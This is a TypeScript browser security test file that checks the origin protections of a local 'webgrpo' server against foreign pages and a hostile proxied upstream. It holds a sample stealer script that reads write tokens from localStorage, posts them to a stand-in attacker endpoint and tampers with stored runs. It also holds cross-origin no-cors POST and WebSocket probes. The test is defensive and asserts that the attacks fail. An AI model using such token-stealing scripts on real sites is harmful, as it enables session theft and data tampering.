// The origin rules as a real browser exercises them, against `webgrpo start` on 127.0.0.1:
//   - a page on another origin (another port, another host name) tries everything any web page can:
//     WebSockets to an env, no-cors text/plain POSTs (no preflight needed) to /reset, /mcp and the
//     run store, and fetch reads of the run store. Nothing opens, starts, reads or writes;
//   - a hostile upstream, proxied with --upstream, serves a /docs page whose script goes for the
//     run write tokens in localStorage and then for the run store: it runs sandboxed, in an opaque
//     origin, and gets neither;
//   - the app's own page still posts JSON the way src/app/api.ts does, and it is stored.
import Database from 'better-sqlite3';
import http from 'node:http';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../../bench/browser/harness.ts';
import { fakeDist, sessionCounts, startServerProcess, tempDir, type ServerProcess } from './server-process.ts';

let work: ReturnType<typeof tempDir>;
let app: ServerProcess;
let evil: http.Server;
let evilPort = 0;
let browser: Browser;
/** What the hostile pages managed to send home. */
const reports: string[] = [];

/** The hostile upstream's /docs: steal every run token, then use each one on the run store. */
const stealer = (port: number) => `<!doctype html><title>docs</title><script>
(async () => {
  const report = (what) => fetch('http://127.0.0.1:${port}/report', { method: 'POST', mode: 'no-cors', body: what });
  let stolen;
  try {
    stolen = Object.keys(localStorage).filter((k) => k.startsWith('webgrpo.run.')).map((k) => [k.slice(12), localStorage.getItem(k)]);
  } catch (err) {
    return report('storage: ' + err.name);
  }
  for (const [id, token] of stolen) {
    report('token: ' + token);
    const r = await fetch('/api/runs/' + id + '/status', { method: 'POST', headers: { 'content-type': 'application/json', 'x-webgrpo-write-token': token }, body: '{"status":"failed","error":"pwned"}' });
    report('write: ' + r.status);
  }
})();
</script>`;

beforeAll(async () => {
  work = tempDir('webgrpo-origin-');
  fakeDist(path.join(work.dir, 'dist'), 0, 0);
  // One server plays both parts: the foreign site at `/` and the hostile OpenEnv upstream.
  evil = http.createServer((req, res) => {
    if (req.url === '/report') {
      let body = '';
      req.on('data', (d: Buffer) => (body += d.toString('utf8')));
      req.on('end', () => {
        reports.push(body);
        res.end();
      });
      return;
    }
    const html = req.url === '/' ? '<!doctype html><title>some other site</title>' : req.url === '/docs' ? stealer(evilPort) : null;
    if (html !== null) {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(html);
      return;
    }
    const json = req.url === '/health' ? { status: 'healthy' } : req.url === '/metadata' ? { name: 'EvilEnvironment', description: 'x', readme_content: null, version: '1', author: null, documentation_url: null } : { action: {}, observation: {}, state: {} };
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify(json));
  });
  await new Promise<void>((r) => evil.listen(0, '127.0.0.1', () => r()));
  evilPort = (evil.address() as { port: number }).port;
  app = await startServerProcess('start', ['--data', path.join(work.dir, 'data'), '--dist', path.join(work.dir, 'dist'), '--upstream', `evil=http://127.0.0.1:${evilPort}`]);
  browser = await launchChromium();
}, 90_000);

afterAll(async () => {
  await browser?.close();
  await app?.stop();
  await new Promise<void>((r) => (evil ? evil.close(() => r()) : r()));
  work?.cleanup();
});

function storedRuns(): Array<{ name: string; status: string }> {
  const db = new Database(path.join(work.dir, 'data', 'runs.db'), { readonly: true });
  try {
    return db.prepare('SELECT name, status FROM runs ORDER BY created_at').all() as Array<{ name: string; status: string }>;
  } finally {
    db.close();
  }
}

describe('a page on another origin', () => {
  it('opens no env session, starts no browser context, reads no run and writes nothing', async () => {
    const page = await browser.newPage();
    try {
      for (const other of [`http://127.0.0.1:${evilPort}/`, `http://localhost:${evilPort}/`]) {
        await page.goto(other);
        const outcome = await page.evaluate(async (base) => {
          const ws = base.replace(/^http/, 'ws');
          const socket = (url: string) =>
            new Promise<string>((resolve) => {
              const s = new WebSocket(url);
              s.onopen = () => {
                s.send('{"type":"reset","data":{}}');
                resolve('opened');
              };
              s.onerror = () => resolve('refused');
            });
          const noCors = (target: string, body: string) => fetch(base + target, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body }).then((r) => r.type, (e) => String(e));
          const read = (target: string) => fetch(base + target).then((r) => r.text(), () => 'blocked');
          return {
            sockets: [await socket(`${ws}/envs/echo/ws`), await socket(`${ws}/envs/browsergym/ws`), await socket(`${ws}/envs/echo/mcp`)],
            posts: await Promise.all([
              noCors('/envs/browsergym/reset', '{}'),
              noCors('/envs/echo/reset', '{}'),
              ...Array.from({ length: 3 }, () => noCors('/envs/browsergym/mcp', '{"jsonrpc":"2.0","method":"openenv/session/create","id":1}')),
              noCors('/api/runs', JSON.stringify({ name: 'planted', config: {}, model: {}, env: {} })),
            ]),
            reads: [await read('/api/runs'), await read('/envs/echo/state')],
          };
        }, app.url);
        expect(outcome.sockets).toEqual(['refused', 'refused', 'refused']);
        expect(outcome.posts.every((type) => type === 'opaque')).toBe(true);
        expect(outcome.reads).toEqual(['blocked', 'blocked']);
      }
      // The server refused each one itself (not only the browser's CORS hiding the answer).
      const refused = app.stderr().match(/^refused .*/gm) ?? [];
      expect(refused.filter((l) => l.startsWith('refused upgrade'))).toHaveLength(6);
      expect(refused.filter((l) => /^refused POST .*http:\/\/(127\.0\.0\.1|localhost):\d+/.test(l))).toHaveLength(12);
      expect(refused.filter((l) => /^refused GET \/api\/runs:/.test(l))).toHaveLength(2);
      expect(app.stderr()).not.toMatch(/session open/);
      expect(await sessionCounts(app.url)).toEqual({ active: 0, queued: 0 });
      expect(storedRuns()).toEqual([]);

      await page.goto(`${app.url}/`);
      const own = await page.evaluate(async () => {
        const r = await fetch('/api/runs', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ name: 'mine', config: {}, model: {}, env: {} }) });
        return r.status;
      });
      expect(own).toBe(201);
      expect(storedRuns().map((r) => r.name)).toEqual(['mine']);
      expect(app.stderr()).not.toMatch(/Run store failure/);
    } finally {
      await page.close();
    }
  }, 60_000);
});

describe('a hostile upstream', () => {
  it("serves its HTML sandboxed: its script can neither read the app's run tokens nor call the run store", async () => {
    const page = await browser.newPage();
    try {
      await page.goto(`${app.url}/`);
      // The app's tab, as it is after creating a run: the token kept where src/app/api.ts keeps it.
      const token = await page.evaluate(async () => {
        const r = await fetch('/api/runs', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ name: 'victim', config: {}, model: {}, env: {} }) });
        const created = (await r.json()) as { id: string; writeToken: string };
        localStorage.setItem(`webgrpo.run.${created.id}`, created.writeToken);
        return created.writeToken;
      });
      const before = storedRuns().find((r) => r.name === 'victim')!.status;

      const docs = await page.goto(`${app.url}/envs/evil/docs`);
      expect(docs!.headers()['content-security-policy']).toBe('sandbox');
      expect(docs!.headers()['x-content-type-options']).toBe('nosniff');
      await page.waitForTimeout(1500); // what the stealer would need
      // What a script in that document sees (evaluated by the debugger; the page's own scripts do not run at all).
      const seen = await page.evaluate(async () => {
        let storage: string;
        try {
          storage = String(localStorage.length);
        } catch (err) {
          storage = (err as Error).name;
        }
        return { origin: self.origin, storage };
      });
      expect(seen).toEqual({ origin: 'null', storage: 'SecurityError' });
      expect(reports.filter((r) => r.includes(token))).toEqual([]);
      expect(storedRuns().find((r) => r.name === 'victim')!.status).toBe(before);
    } finally {
      await page.close();
    }
  }, 60_000);
});
